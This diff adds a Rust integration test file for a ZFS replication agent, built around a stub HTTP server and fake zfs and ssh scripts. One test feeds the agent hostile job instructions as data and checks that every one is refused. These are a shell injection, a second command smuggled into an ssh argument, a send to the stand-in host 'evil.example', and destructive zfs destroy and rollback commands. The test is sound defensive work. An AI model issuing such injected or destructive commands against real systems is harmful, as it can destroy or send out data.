@@ -1,0 +1,303 @@
+//! The agent binary against fakes: a stub witness (a tiny HTTP server in the test that answers
+//! what a compromised or buggy server could) and fake `zfs`/`ssh` scripts that only record
+//! that they ran; plus one cycle against the real server with fake `zfs` on OpenZFS.
+
+mod support;
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpListener;
+use std::path::Path;
+use std::sync::{Arc, Mutex};
+
+use serde_json::{Value, json};
+use support::{Host, Server, script, ssh_standin};
+
+const ID: &str = "11111111-2222-3333-4444-555555555555";
+
+/// A fake `zfs` that prints an OpenZFS usage, lists `$HOST/inventory` and records every other
+/// call in `$HOST/ran` (send writes `$HOST/send-bytes` bytes; receive reads its input).
+fn fake_zfs(host_dir: &Path) -> String {
+    format!(
+        r#"#!/bin/sh
+H={h}
+if [ $# -eq 0 ]; then
+  cat >&2 <<'EOF'
+usage: zfs command args ...
+	list [-Hp] [-r|-d max] [-o property[,...]] [-s property]...
+	send [-DLPbcehnpsVvw] [-i|-I snapshot] <snapshot>
+	send [-DnVvPe] -t <receive_resume_token>
+	receive [-FhMnsuv] [-o <property>=<value>] ... [-x <property>] ...
+	bookmark <snapshot|bookmark> <newbookmark>
+	hold [-r] <tag> <snapshot> ...
+EOF
+  exit 2
+fi
+case "$1" in
+  list) cat "$H/inventory" 2>/dev/null; exit 0 ;;
+  get) echo -; exit 0 ;;
+esac
+echo "$*" >> "$H/ran"
+case "$1" in
+  send) head -c "$(cat "$H/send-bytes" 2>/dev/null || echo 1000)" /dev/zero ;;
+  receive) wc -c > "$H/received" ;;
+esac
+"#,
+        h = host_dir.display()
+    )
+}
+
+/// A stub witness: answers the agent's requests from `instructions`, records every request.
+struct Stub {
+    url: String,
+    requests: Arc<Mutex<Vec<(String, Value)>>>,
+}
+
+fn read_request(stream: &mut std::net::TcpStream) -> Option<(String, Value)> {
+    let mut reader = BufReader::new(stream.try_clone().ok()?);
+    let mut line = String::new();
+    reader.read_line(&mut line).ok()?;
+    let mut parts = line.split_whitespace();
+    let (method, path) = (parts.next()?.to_string(), parts.next()?.to_string());
+    let mut length = 0usize;
+    loop {
+        let mut h = String::new();
+        reader.read_line(&mut h).ok()?;
+        let h = h.trim_end();
+        if h.is_empty() {
+            break;
+        }
+        if let Some((k, v)) = h.split_once(':')
+            && k.eq_ignore_ascii_case("content-length")
+        {
+            length = v.trim().parse().unwrap_or(0);
+        }
+    }
+    let mut body = vec![0; length];
+    reader.read_exact(&mut body).ok()?;
+    let body = serde_json::from_slice(&body).unwrap_or(Value::Null);
+    Some((format!("{method} {path}"), body))
+}
+
+impl Stub {
+    fn start(instructions: Value) -> Stub {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}", listener.local_addr().unwrap());
+        let requests = Arc::new(Mutex::new(Vec::new()));
+        let seen = requests.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                let Some((request, body)) = read_request(&mut stream) else {
+                    continue;
+                };
+                let answer = if request.contains("/heartbeat") {
+                    json!({"system_id": ID, "status": "online"})
+                } else if request.starts_with("GET /api/v1/sync/instructions") {
+                    instructions.clone()
+                } else if request.starts_with("GET /api/v1/systems/") {
+                    json!({"id": ID, "capabilities": null})
+                } else {
+                    json!({})
+                };
+                seen.lock().unwrap().push((request, body));
+                let text = answer.to_string();
+                let _ = write!(
+                    stream,
+                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
+                    text.len()
+                );
+            }
+        });
+        Stub { url, requests }
+    }
+
+    fn results(&self) -> Vec<Value> {
+        self.requests
+            .lock()
+            .unwrap()
+            .iter()
+            .filter(|(r, _)| r.ends_with("/result"))
+            .map(|(_, b)| b.clone())
+            .collect()
+    }
+}
+
+fn host(dir: &Path, name: &str, id: &str, key: &str) -> Host {
+    let h = Host {
+        name: name.into(),
+        id: id.into(),
+        key: key.into(),
+        dir: dir.join(name),
+    };
+    script(&h.bin().join("zfs"), &fake_zfs(&h.dir));
+    h
+}
+
+fn job(id: &str, kind: &str, destructive: bool, argv: Value) -> Value {
+    json!({
+        "job_id": id, "kind": kind, "transfer": "push", "destructive": destructive,
+        "source_ssh_hostname": "hub", "target_ssh_hostname": "backup1",
+        "source_dataset_path": "tank/vm", "target_dataset_path": "backup/vm",
+        "argv": argv, "commands": [],
+    })
+}
+
+#[test]
+fn hostile_instructions_are_refused_and_nothing_runs() {
+    let tmp = tempfile::tempdir().unwrap();
+    let pwned = tmp.path().join("pwned");
+    let p = pwned.display().to_string();
+    let stub = Stub::start(json!({"datasets": [
+        job("a0000000-0000-0000-0000-000000000001", "full", false,
+            json!([[["sh", "-c", format!("touch {p}")]]])),
+        job("a0000000-0000-0000-0000-000000000002", "full", false,
+            json!([[["zfs", "send", "tank/vm@a"],
+                    ["ssh", "-o", "BatchMode=yes", "backup1", format!("zfs receive backup/vm; touch {p}")]]])),
+        job("a0000000-0000-0000-0000-000000000003", "full", false,
+            json!([[["zfs", "send", "tank/vm@a"],
+                    ["ssh", "-o", "BatchMode=yes", "evil.example", "zfs receive backup/vm"]]])),
+        job("a0000000-0000-0000-0000-000000000004", "full", false,
+            json!([[["zfs", "destroy", "tank/vm@a"]]])),
+        job("a0000000-0000-0000-0000-000000000005", "rollback", false,
+            json!([[["zfs", "rollback", "-r", "tank/vm@a"]]])),
+        job("a0000000-0000-0000-0000-000000000006", "full", false,
+            json!([[["zfs", "send", "tank/vm@a"],
+                    ["ssh", "-o", "BatchMode=yes", "backup1", "zfs receive -F backup/vm"]]])),
+    ]}));
+    let h = host(tmp.path(), "hub", ID, "key");
+    script(
+        &h.bin().join("ssh"),
+        &format!("#!/bin/sh\necho ssh >> {}/ran\n", h.dir.display()),
+    );
+    let out = h.once(&stub.url, &[]);
+    let log = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{log}");
+    let results = stub.results();
+    assert_eq!(results.len(), 6, "{results:?}");
+    for r in &results {
+        assert_eq!(r["status"], "failed", "{r}");
+        assert!(r["error"].as_str().unwrap().starts_with("refused"), "{r}");
+    }
+    assert!(!pwned.exists(), "a hostile command ran");
+    assert!(
+        !h.dir.join("ran").exists(),
+        "no zfs or ssh command may run: {}",
+        std::fs::read_to_string(h.dir.join("ran")).unwrap_or_default()
+    );
+}
+
+#[test]
+fn configuration_and_connection_errors_exit_2() {
+    let tmp = tempfile::tempdir().unwrap();
+    let h = host(tmp.path(), "hub", ID, "key");
+    let out = h
+        .agent(
+            "http://127.0.0.1:9",
+            &["once"],
+            &[("ZFS_SYNC_STALL_SECONDS", "0")],
+        )
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("stall_seconds"));
+    let port = TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let out = h.once(&format!("http://127.0.0.1:{port}"), &[]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("connection"));
+}
+
+#[test]
+fn a_second_agent_does_not_run_while_the_lock_is_held() {
+    let tmp = tempfile::tempdir().unwrap();
+    let stub = Stub::start(json!({"datasets": []}));
+    let h = host(tmp.path(), "hub", ID, "key");
+    std::fs::create_dir_all(&h.dir).unwrap();
+    let lock = std::fs::File::create(h.dir.join("lock")).unwrap();
+    lock.lock().unwrap();
+    let out = h.once(&stub.url, &[]);
+    assert_eq!(out.status.code(), Some(0));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("another agent holds the lock"));
+    assert!(stub.requests.lock().unwrap().is_empty());
+    drop(lock);
+    let out = h.once(&stub.url, &[]);
+    assert_eq!(out.status.code(), Some(0));
+    assert!(!stub.requests.lock().unwrap().is_empty());
+}
+
+/// One push cycle against the real server with fake `zfs` on OpenZFS: the capabilities reach
+/// the witness (so `-s` is planned), the pipeline runs on both hosts, the bytes are counted,
+/// the result is recorded, and an unchanged inventory is not sent again.
+#[test]
+fn one_push_cycle_against_the_real_server() {
+    let tmp = tempfile::tempdir().unwrap();
+    let server = Server::start(tmp.path(), &[]);
+    let hosts_dir = tmp.path().join("hosts");
+    let (hub_id, hub_key) = server.register("hub1");
+    let (t_id, t_key) = server.register("backup1");
+    let hub = host(&hosts_dir, "hub1", &hub_id, &hub_key);
+    let target = host(&hosts_dir, "backup1", &t_id, &t_key);
+    for h in [&hub, &target] {
+        script(&h.bin().join("ssh"), &ssh_standin(&hosts_dir, 3333));
+    }
+    std::fs::write(
+        hub.dir.join("inventory"),
+        "tank\tfilesystem\t1\t1\t1700000000\t1\t1\t-\n\
+         tank/vm\tfilesystem\t2\t2\t1700000000\t1\t1\t-\n\
+         tank/vm@a\tsnapshot\t42\t5\t1700000100\t1\t1\t-\n",
+    )
+    .unwrap();
+    std::fs::write(
+        target.dir.join("inventory"),
+        "backup\tfilesystem\t9\t1\t1700000000\t1\t1\t-\n",
+    )
+    .unwrap();
+    std::fs::write(hub.dir.join("send-bytes"), "777777").unwrap();
+    let (status, g) = server.admin(
+        "POST",
+        "/sync-groups",
+        Some(
+            json!({"name": "g", "directional": true, "hub_system_id": hub_id,
+            "system_ids": [hub_id, t_id],
+            "members": [{"system_id": t_id, "dataset_root": "backup"}]}),
+        ),
+    );
+    assert_eq!(status, 201, "{g}");
+    let out = target.once(&server.url, &[]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let out = hub.once(&server.url, &[]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let sent = std::fs::read_to_string(hub.dir.join("ran")).unwrap();
+    assert_eq!(sent.trim(), "send tank/vm@a");
+    let received = std::fs::read_to_string(target.dir.join("ran")).unwrap();
+    assert_eq!(received.trim(), "receive -s -u backup/vm");
+    assert_eq!(
+        std::fs::read_to_string(target.dir.join("received"))
+            .unwrap()
+            .trim(),
+        "777777"
+    );
+    let (_, jobs) = server.admin("GET", "/sync/jobs", None);
+    assert_eq!(jobs[0]["status"], "succeeded", "{jobs}");
+    assert_eq!(jobs[0]["bytes"], 777777, "{jobs}");
+    let (_, sys) = server.admin("GET", &format!("/systems/{hub_id}"), None);
+    assert_eq!(sys["capabilities"]["resumable_receive"], true, "{sys}");
+    assert!(
+        sys["extra_metadata"]["agent"]["zfs"]["bookmarks"] == true,
+        "{sys}"
+    );
+    let out = hub.once(&server.url, &[("ZFS_SYNC_LOG", "debug")]);
+    assert!(out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("report skipped"));
+}
